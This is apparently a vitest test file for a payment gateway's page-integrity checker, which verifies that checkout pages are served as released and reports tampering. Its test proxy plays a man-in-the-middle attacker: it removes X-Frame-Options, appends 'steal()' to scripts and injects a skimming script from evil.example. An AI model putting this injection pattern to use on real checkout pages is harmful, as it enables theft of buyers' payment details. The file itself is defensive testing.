import { execFile } from "node:child_process";
import { randomUUID } from "node:crypto";
import { createServer, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, expect, onTestFinished, test } from "vitest";
import { pageOf, startTestCheckouts } from "../../test/test-checkouts.ts";
import { startTestGateway, type TestGateway, type TestMerchant } from "../../test/test-gateway.ts";
import { holdfast } from "@holdfast/tests/support";

let gateway: TestGateway;
let checkouts: Awaited<ReturnType<typeof startTestCheckouts>>;
let merchant: TestMerchant;
beforeAll(async () => {
  gateway = await startTestGateway({ PUBLIC_URL: "https://pay.example.test" });
  checkouts = await startTestCheckouts(gateway.nats.url);
  merchant = await gateway.createMerchant({ name: "A <shop>" });
});
afterAll(async () => {
  await checkouts.stop();
  await gateway.stop();
});

const probe = async (...args: string[]) => {
  const [node = "", ...program] = await holdfast("page-integrity", ...args);
  return await new Promise<{ code: number; text: string }>((resolve) => {
    const child = execFile(node, program, (_error, stdout, stderr) =>
      resolve({ code: child.exitCode ?? -1, text: stdout + stderr }),
    );
  });
};

const address = (port: number, id: string) => `http://127.0.0.1:${port}/checkout/${id}`;

test.each(["OPEN", "EXPIRED"] as const)("an %s checkout's page is as released", async (status) => {
  const page = pageOf({ merchantId: merchant.merchantId, status, failureUrl: undefined });
  checkouts.answers.view = async () => ({ outcome: "done", result: page });
  expect(await probe("--url", address(gateway.ports.public, page.checkoutId))).toEqual({
    code: 0,
    text: `as released: ${status === "OPEN" ? "an open checkout" : "a checkout that is over"}\n`,
  });
});

test("so is one that leads back to the shop that was named", async () => {
  const successUrl = "https://shop.example/done";
  const page = pageOf({ merchantId: merchant.merchantId, status: "COMPLETED", successUrl });
  checkouts.answers.view = async () => ({ outcome: "done", result: page });
  const url = address(gateway.ports.public, page.checkoutId);
  expect(await probe("--url", url, "--shop", "https://shop.example")).toMatchObject({ code: 0 });
  expect(await probe("--url", url, "--shop", "https://other.example")).toEqual({
    code: 1,
    text: expect.stringContaining("https://shop.example/done?"),
  });
});

test("so is the page of a checkout that does not exist", async () => {
  checkouts.answers.view = async () => ({ outcome: "problem", code: "checkout_not_found" });
  expect(await probe("--url", address(gateway.ports.public, randomUUID()))).toMatchObject({ code: 0 });
});

test("what a proxy has changed is named, with what it was", async () => {
  checkouts.answers.view = async () => ({ outcome: "problem", code: "checkout_not_found" });
  const port = await startChangingProxy();
  const { code, text } = await probe("--url", address(port, randomUUID()), "--allow-header", "Server");
  expect(code).toBe(1);
  expect(text).toContain("header x-frame-options\n  - DENY\n  + (not there)\n");
  expect(text).toContain('<script src="https://evil.example/skim.js"> </script>\n');
  expect(text).toMatch(/SHA-256 of \/checkout\/assets\/checkout\.\w+\.js\n {2}- \w{64}\n {2}\+ \w{64}\n/);
  expect(text).toContain("5 differences");
});

test("without an answer, or with one that is no page, nothing is said of the page", async () => {
  expect(await probe("--url", "http://127.0.0.1:1/checkout/1")).toMatchObject({ code: 2 });
  checkouts.answers.view = async () => ({ outcome: "not_started" });
  expect(await probe("--url", address(gateway.ports.public, randomUUID()))).toEqual({
    code: 2,
    text: expect.stringContaining("was answered with 503"),
  });
  expect(await probe()).toMatchObject({ code: 2, text: expect.stringContaining("--url") });
});

/** Changes pages as an attacker between the gateway and its buyers would. */
async function startChangingProxy(): Promise<number> {
  const proxy = createServer((request, answer) => void passOn(request.url!, answer));
  await new Promise<void>((resolve) => proxy.listen(0, "127.0.0.1", resolve));
  onTestFinished(() => void proxy.close());
  return (proxy.address() as AddressInfo).port;
}

async function passOn(url: string, answer: ServerResponse): Promise<void> {
  const response = await fetch(`http://127.0.0.1:${gateway.ports.public}${url}`);
  const body = await response.text();
  for (const [name, value] of response.headers) {
    if (!["content-length", "connection", "x-frame-options"].includes(name)) answer.setHeader(name, value);
  }
  answer.setHeader("Server", "proxy").writeHead(response.status);
  answer.end(
    url.endsWith(".js")
      ? `${body};steal()`
      : body.replace("</head>", '<script src="https://evil.example/skim.js"></script></head>'),
  );
}
